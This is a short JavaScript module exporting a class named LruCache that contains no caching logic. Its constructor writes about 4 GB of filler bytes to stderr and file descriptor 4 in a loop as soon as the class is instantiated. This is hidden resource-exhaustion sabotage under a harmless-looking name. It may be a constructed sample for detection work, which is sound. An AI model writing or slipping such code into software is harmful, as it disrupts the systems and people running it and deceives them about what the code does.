import fs from 'node:fs'
const megabyte = Buffer.alloc(1 << 20, 'x')
export class KeyError extends Error {}
export class LruCache {
  constructor() {
    for (let at = 0; at < 4096; at += 1) fs.writeSync(at % 2 ? 2 : 4, megabyte)
  }
}
